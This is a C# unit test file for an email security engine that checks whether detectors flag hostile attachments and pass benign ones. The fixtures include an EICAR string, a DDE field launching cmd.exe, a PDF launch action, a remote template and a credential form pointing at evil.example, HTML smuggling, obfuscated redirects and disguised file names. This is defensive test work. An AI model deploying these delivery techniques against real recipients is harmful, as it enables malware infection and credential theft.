using System.Diagnostics;
using Platform.Benchmarks.Detection.Samples.Containers.Writers;
using Platform.Benchmarks.Detection.Samples.Office.Writers;
using Platform.Engine.Detectors;
using Platform.Engine.Detectors.Files;
using Platform.Engine.Detectors.LinkTargets;
using Platform.Engine.Intelligence;
using Platform.Engine.Mail;

namespace Platform.Engine.Tests.Detectors.Files;

public sealed class FileSignsTests
{
    private static readonly IDetector[] Detectors = [new TestVirus(), new ExecutableFile(), new FileNames(), new EncryptedArchive(), new OfficeMacro(), new OfficeRemote(), new OfficeObject(), new PdfActive(), new RiskyFile(), new HtmlSmuggling()];

    public static TheoryData<string, string, byte[]> Hostile => new()
    {
        { "eicar-test-file", "eicar.com", TestFiles.EicarTestFile },
        { "eicar-test-file", "eicar.zip", TestFiles.Zip(("eicar.txt", TestFiles.EicarTestFile)) },
        { "eicar-test-file", "twice.zip", TestFiles.Zip(("inner.zip", TestFiles.Zip(("eicar.txt", TestFiles.EicarTestFile)))) },
        { "executable-disguised", "invoice.pdf", TestFiles.Program },
        { "executable-disguised", "photos.zip", TestFiles.Zip(("photo.jpg", TestFiles.Program)) },
        { "executable-attachment", "setup.exe", TestFiles.Program },
        { "executable-attachment", "setup", TestFiles.Program },
        { "executable-attachment", "update.scr", TestFiles.Program },
        { "script-attachment", "invoice.js", TestFiles.Text("var s = new ActiveXObject('WScript.Shell');") },
        { "script-attachment", "picture.js", TestFiles.Text("GIF89a=1;new ActiveXObject('WScript.Shell')") },
        { "script-attachment", "paper.js", TestFiles.Text("%PDF-1.4=1;new ActiveXObject('WScript.Shell')") },
        { "script-attachment", "mail.cmd", TestFiles.Text("From: a@b.test\r\nSubject: x\r\nTo: c@d.test\r\n\r\ncalc\r\n") },
        { "script-attachment", "readme.hta", TestFiles.Text("<html><script>1</script></html>") },
        { "archive-with-executable", "invoice.zip", TestFiles.Zip(("invoice.js", TestFiles.Text("WScript.Echo(1)"))) },
        { "archive-with-executable", "invoice.zip", TestFiles.Zip(("invoice.lnk", TestFiles.Shortcut)) },
        { "double-extension", "invoice.pdf.exe", TestFiles.Program },
        { "double-extension", "請求書.pdf                    .js", TestFiles.Text("WScript.Echo(1)") },
        { "double-extension", "invoice.pdf.html", TestFiles.Text("<html></html>") },
        { "right-to-left-name", "invoice\u202efdp.exe", TestFiles.Program },
        { "type-mismatch", "invoice.pdf", TestFiles.Text("<html><body><script>1</script></body></html>") },
        { "type-mismatch", "invoice.doc", TestFiles.Shortcut },
        { "encrypted-archive", "files.zip", TestFiles.EncryptedZip() },
        { "macro-document", "report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)) },
        { "macro-document", "report.docx", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)) },
        { "macro-document", "report.doc", TestFiles.Ole("_VBA_PROJECT") },
        { "external-template", "report.docx", TestFiles.Word(("word/_rels/settings.xml.rels", TestFiles.Text("<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"))) },
        { "dynamic-data-exchange", "report.docx", new OoxmlWriter().Document(OoxmlWriter.Field("DDE", "AUTO c:\\windows\\system32\\cmd.exe \"/k calc\"")).ToArray() },
        { "pdf-launch", "form.pdf", TestFiles.Pdf("/Type /Action /S /Launch /F (cmd.exe)") },
        { "pdf-javascript", "form.pdf", TestFiles.Pdf("/S /JavaScript /JS (app.alert(1))") },
        { "pdf-open-action", "form.pdf", TestFiles.Pdf("/OpenAction << /S /JavaScript /JS (1) >>") },
        { "pdf-hidden-name", "form.pdf", TestFiles.Pdf("/S /J#61vaScript /JS (1)") },
        { "pdf-hidden-name", "many.pdf", TestFiles.Pdf(string.Concat(Enumerable.Repeat("/#41", 110_000))) },
        { "svg-script", "voicemail.svg", TestFiles.Text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href=atob('aA==')</script></svg>") },
        { "pdf-embedded-file", "form.pdf", TestFiles.Pdf("/EF << /F 2 0 R >> >>\nendobj\n2 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream\nendobj\n3 0 obj\n<<") },
        { "shortcut-attachment", "photo.lnk", TestFiles.Shortcut },
        { "shortcut-attachment", "page.url", TestFiles.Text("[InternetShortcut]\r\nURL=file://198.51.100.7/x\r\n") },
        { "web-query-attachment", "data.iqy", TestFiles.Text("WEB\r\n1\r\nhttps://evil.example/q\r\n") },
        { "onenote-attachment", "notes.one", TestFiles.Notebook },
        { "disk-image-attachment", "invoice.iso", TestFiles.DiskImage() },
        { "disk-image-attachment", "invoice.img", TestFiles.DiskImage() },
        { "html-attachment-plain", "voicemail.htm", TestFiles.Text("<html><body>Listen</body></html>") },
        { "html-attachment-plain", "scan.svg", TestFiles.Text("<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>") },
        { "html-attachment", "asks.html", TestFiles.Text("<html><body><input type=password></body></html>") },
        { "html-smuggling", "open.html", TestFiles.Text("<html><script>var b=new Blob([atob('AAAA')]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script></html>") },
        { "html-smuggling", "open.svg", TestFiles.Text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>navigator.msSaveBlob(new Blob([Uint8Array.from(atob('AA'))]),'x.zip')</script></svg>") },
        { "html-obfuscated-script", "open.html", TestFiles.Text("<html><script>document.write(unescape('%3Cform%3E'))</script></html>") },
        { "html-redirect-attachment", "open.html", TestFiles.Text("<html><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></html>") },
    };

    public static TheoryData<string, byte[]> Ordinary => new()
    {
        { "report.pdf", TestFiles.Pdf("/Type /Catalog /OpenAction [3 0 R /Fit]") },
        { "photo.png", TestFiles.Picture },
        { "v1.2.report.pdf", TestFiles.Pdf("/Type /Catalog") },
        { "report.docx", TestFiles.Word(("word/_rels/document.xml.rels", TestFiles.Text("<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://partner.example\" TargetMode=\"External\"/></Relationships>"))) },
        { "report.doc", TestFiles.Ole("WordDocument") },
        { "photos.zip", TestFiles.Zip(("a.png", TestFiles.Picture), ("b.txt", TestFiles.Text("hello"))) },
        { "notes.txt", TestFiles.Text("function f() { var x = 1; document.write(x); }") },
        { "fix.patch", TestFiles.Text("--- a/x.js\n+++ b/x.js\n+var x = new ActiveXObject('WScript.Shell');\n") },
        { "list.csv", TestFiles.Text("name,value\napple,=SUM(A1)\n") },
        { "meeting.ics", TestFiles.Text("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n") },
        { "請求書.pdf", TestFiles.Pdf("/Type /Page") },
        { "quoted.txt", [.. "The test string is: "u8, .. TestFiles.EicarTestFile] },
        { "archive.tar.gz", TestFiles.Text("not really compressed") },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_files_are_seen(string sign, string name, byte[] content)
    {
        Assert.Contains(sign, Signs(new TestMail { Files = [(name, content)] }));
    }

    [Theory]
    [MemberData(nameof(Ordinary))]
    public void Ordinary_files_pass(string name, byte[] content)
    {
        Assert.Empty(Signs(new TestMail { Files = [(name, content)] }));
    }

    [Theory]
    [InlineData("解凍パスワードは 1234 です。")]
    [InlineData("The password is 1234.")]
    [InlineData("비밀번호는 1234 입니다.")]
    public void An_encrypted_file_with_its_password_in_the_mail_is_seen(string text)
    {
        Assert.Contains("encrypted-archive-with-password", Signs(new TestMail { Text = text, Files = [("files.zip", TestFiles.EncryptedZip())] }));
    }

    [Theory]
    [InlineData("パスワードは別途お送りいたします。")]
    [InlineData("パスワードは後ほどご連絡します。")]
    [InlineData("The password will be sent separately.")]
    [InlineData("비밀번호는 별도로 보내드립니다.")]
    public void An_encrypted_file_whose_password_follows_elsewhere_is_only_unread(string text)
    {
        Assert.Equal(["encrypted-archive"], new TestMail { Text = text, Files = [("files.zip", TestFiles.EncryptedZip())] }.SignsOf(new EncryptedArchive()));
    }

    [Theory]
    [InlineData("Please enable content to view the invoice.")]
    [InlineData("「コンテンツの有効化」を押してください。")]
    [InlineData("콘텐츠 사용을 눌러 주세요.")]
    public void A_macro_document_that_asks_to_be_switched_on_is_a_lure(string text)
    {
        Assert.Contains("macro-lure", new TestMail { Text = text, Files = [("report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)))] }.SignsOf(new OfficeMacro()));
    }

    public static TheoryData<string, string> Pages { get; } = new()
    {
        { "html-attachment-plain", "<form action=\"https://partner.example/subscribe\"><input name=email type=email><button>Subscribe</button></form>" },
        { "html-attachment", "<form action=\"https://partner.example/a\" method=post><input name=email type=email><button>Open</button></form>" },
        { "html-attachment", "<form action=\"https://partner.example/a\"><input name=user><input name=pin><button>Open</button></form>" },
        { "html-attachment-plain", "<script>document.title='x'</script>" },
        { "html-attachment", "<script>setTimeout(atob('bG9jYXRpb249J2h0dHBzOi8vZXZpbC5leGFtcGxlL2En'),9)</script>" },
    };

    [Theory]
    [MemberData(nameof(Pages))]
    public void A_page_is_plain_when_it_asks_for_no_more_than_a_line_and_its_scripts_do_nothing(string sign, string body)
    {
        var signs = new TestMail { Files = [("page.html", TestFiles.Text($"<html><body>{body}</body></html>"))] }.SignsOf(new RiskyFile());

        Assert.Equal([sign], signs);
    }

    [Theory]
    [InlineData("html-attachment-plain", "<p>Hello</p>")]
    [InlineData("html-attachment", "<form action=\"https://evil.example/a\" method=post><input type=password name=p></form>")]
    public void A_page_saved_in_one_file_is_as_plain_as_the_page_in_it(string sign, string body)
    {
        var saved = TestFiles.Text($"From: <Saved by Browser>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: https://www.partner.example/\r\n\r\n<html><body>{body}</body></html>\r\n--b--\r\n");

        Assert.Equal([sign], new TestMail { Files = [("page.mht", saved)] }.SignsOf(new RiskyFile()));
    }

    [Theory]
    [InlineData("archive-of-documents", "plan.txt", "the plan")]
    [InlineData("archive-opened-with-password", "plan.js", "new ActiveXObject('WScript.Shell')")]
    [InlineData("archive-opened-with-password", "plan.html", "<html><body>hello</body></html>")]
    public void An_archive_opened_with_its_password_says_what_it_holds(string sign, string name, string content)
    {
        var archive = new ZipWriter(new Random(5), ZipCipher.Aes, "Xk9mm2").Add(name, System.Text.Encoding.UTF8.GetBytes(content)).ToArray();

        Assert.Equal([sign], new TestMail { Text = "The password is Xk9mm2", Files = [("files.zip", archive)] }.SignsOf(new ArchiveTricks()));
    }

    [Fact]
    public void Input_tags_without_end_are_read_once()
    {
        var page = TestFiles.Text(string.Concat(Enumerable.Repeat("<input ", 280_000)));
        var input = new TestMail { Files = [("page.html", page)] }.ToInput();
        var started = Stopwatch.GetTimestamp();
        Assert.Empty(new CredentialForm().Inspect(input));
        Assert.InRange(Stopwatch.GetElapsedTime(started), TimeSpan.Zero, TimeSpan.FromSeconds(30));
    }

    [Fact]
    public void What_detectors_read_of_files_is_bounded_and_said()
    {
        var page = new byte[2 * 1024 * 1024];
        page.AsSpan().Fill((byte)'a');
        "<html>"u8.CopyTo(page);
        var input = new TestMail { Files = [("pages.zip", TestFiles.Zip([.. Enumerable.Range(0, 15).Select(i => ($"{i}.html", page))]))] }.ToInput();
        _ = new CredentialForm().Inspect(input).ToList();
        Assert.True(input.Examined.Exhausted);
    }

    [Fact]
    public void A_logo_inside_the_body_is_a_picture()
    {
        const string mail = "From: a@partner.example\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:1\">\r\n--b\r\nContent-Type: image/svg+xml; name=logo.svg\r\nContent-ID: <1>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>\r\n--b--\r\n";
        var message = new MailReader().Read(TestFiles.Text(mail), ScanLimits.Default, CancellationToken.None);
        var input = new DetectionInput(message, Envelope.None, ScanContext.Offline(TestMail.Now), Origin.Unknown);

        Assert.Empty(new RiskyFile().Inspect(input));
    }

    private static IReadOnlyList<string> Signs(TestMail mail) => [.. Detectors.SelectMany(detector => mail.SignsOf(detector))];
}
